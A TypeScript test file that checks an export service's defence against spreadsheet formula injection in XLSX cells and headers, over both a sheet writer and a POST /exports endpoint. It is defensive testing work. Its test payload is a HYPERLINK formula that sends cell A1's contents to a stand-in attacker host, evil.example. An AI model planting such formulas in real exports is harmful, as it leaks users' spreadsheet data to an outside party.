import { readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { Readable } from 'node:stream';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { ExportColumn } from '../src/resources/exports/columns';
import { sheetWriter } from '../src/resources/exports/xlsx';
import { startTestServer, type TestServer } from './support/server';

// Formula injection (issue #35 item 11): every text cell an export writes that begins with
// = + - @ tab CR or LF comes back with a leading single quote; numbers and dates stay as they were.

const DANGEROUS = ['=', '+', '-', '@', '\t', '\r', '\n'];
const payload = (c: string) => `${c}HYPERLINK("http://evil.example/?d="&A1;"abrir")`;
// What reading the sheet back gives for a quoted payload: XML reads a bare CR as LF.
const quoted = (c: string) => `'${payload(c)}`.replace(/\r/g, '\n');

async function rowsOf(bytes: Buffer): Promise<unknown[][]> {
  const reader = new ExcelJS.stream.xlsx.WorkbookReader(Readable.from([bytes]), {
    sharedStrings: 'cache',
    styles: 'cache',
    worksheets: 'emit',
  });
  const rows: unknown[][] = [];
  for await (const sheet of reader) {
    for await (const row of sheet) rows.push((row.values as unknown[]).slice(1));
    break;
  }
  return rows;
}

describe('the sheet writer every export goes through', () => {
  const columns: ExportColumn[] = [
    { key: 'text', kind: 'text', label: '=SUM(1;2)' },
    { key: 'money', kind: 'money' },
    { key: 'mwh', kind: 'mwh' },
    { key: 'integer', kind: 'integer' },
    { key: 'number', kind: 'number' },
    { key: 'date', kind: 'date' },
    { key: 'datetime', kind: 'datetime' },
    { key: 'boolean', kind: 'boolean' },
  ];

  async function written(rows: Record<string, unknown>[]): Promise<unknown[][]> {
    const file = path.join(tmpdir(), `rec-injection-${process.pid}-${Date.now()}.xlsx`);
    try {
      const writer = sheetWriter({ filename: file }, 'injection', columns);
      writer.add(rows);
      await writer.finish();
      return await rowsOf(await readFile(file));
    } finally {
      await rm(file, { force: true });
    }
  }

  it('quotes a text beginning with each dangerous character, in cells and headers', async () => {
    const rows = await written(DANGEROUS.map((c) => ({ text: payload(c) })));
    expect(rows[0]?.[0]).toBe("'=SUM(1;2)");
    expect(rows.slice(1).map((r) => r[0])).toEqual(DANGEROUS.map(quoted));
  });

  it('quotes dangerous text that lands in a column of another kind', async () => {
    const [, row] = await written([
      {
        money: '=1+1',
        mwh: '-1+cmd',
        integer: '@SUM(A1)',
        number: '+1+1',
        date: '=TODAY()',
        datetime: '-cmd',
        boolean: '=TRUE()',
      },
    ]);
    expect(row?.slice(1)).toEqual(["'=1+1", "'-1+cmd", "'@SUM(A1)", "'+1+1", "'=TODAY()", "'-cmd", "'=TRUE()"]);
  });

  it('keeps negative numbers as numbers, long exact decimals as their text, and dates as (Brasília) dates', async () => {
    const [, row] = await written([
      {
        text: 'Comercializadora Verde S.A.',
        money: '-12.50',
        mwh: '-123456789012.123456',
        integer: -7,
        number: '-3.25',
        date: '2024-02-29',
        datetime: '2024-03-01T12:30:00.000Z',
        boolean: false,
      },
    ]);
    expect(row).toEqual([
      'Comercializadora Verde S.A.',
      -12.5,
      '-123456789012.123456',
      -7,
      -3.25,
      new Date('2024-02-29T00:00:00Z'),
      // 12:30 UTC is 09:30 on the registry's clock, as the app shows it; a boolean reads Não.
      new Date('2024-03-01T09:30:00Z'),
      'Não',
    ]);
  });
});

describe('POST /exports', () => {
  let s: TestServer;
  const ids: number[] = [];

  beforeAll(async () => {
    s = await startTestServer();
    for (const [i, c] of DANGEROUS.entries()) {
      const row = await s.database.db
        .insertInto('registrants')
        .values({
          social_reason: payload(c),
          cnpj: `9900000000010${i}`,
          // Not a Brazilian number, so it is written as stored (a Brazilian one is formatted), and its
          // leading '+' must be neutralised like any formula.
          phone: '+1 212 555 0100',
          email: `injecao${i}@exemplo.com.br`,
          dueDate: 10,
          price_emission_irec: '-12.50',
        })
        .returning('id')
        .executeTakeFirstOrThrow();
      ids.push(Number(row.id));
    }
  });
  afterAll(() => s.close());

  async function exported(body: Record<string, unknown>) {
    const api = await s.client('admin', 'direct');
    const r = await api.POST('/exports', { body: body as never, parseAs: 'arrayBuffer' });
    expect(r.response.status).toBe(200);
    return rowsOf(Buffer.from(r.data as unknown as ArrayBuffer));
  }

  it('neutralises a list export’s text cells and keeps its numbers and dates', async () => {
    const rows = await exported({
      resource: 'registrants',
      columns: ['id', 'social_reason', 'phone', 'price_emission_irec', 'created_at'],
    });
    const ours = rows.filter((r) => ids.includes(r[0] as number));
    expect(ours.map((r) => r[1])).toEqual(DANGEROUS.map(quoted));
    expect(new Set(ours.map((r) => r[2]))).toEqual(new Set(["'+1 212 555 0100"]));
    expect(new Set(ours.map((r) => r[3]))).toEqual(new Set([-12.5]));
    expect(ours.every((r) => r[4] instanceof Date)).toBe(true);
  });

  it('neutralises a report export’s text cells', async () => {
    const rows = await exported({ resource: 'report', report: 'registrant_contact' });
    const ours = rows.filter((r) => ids.includes(r[0] as number));
    expect(ours.map((r) => r[1]).sort()).toEqual(DANGEROUS.map(quoted).sort());
    expect(new Set(ours.map((r) => r[4]))).toEqual(new Set(["'+1 212 555 0100"]));
  });
});
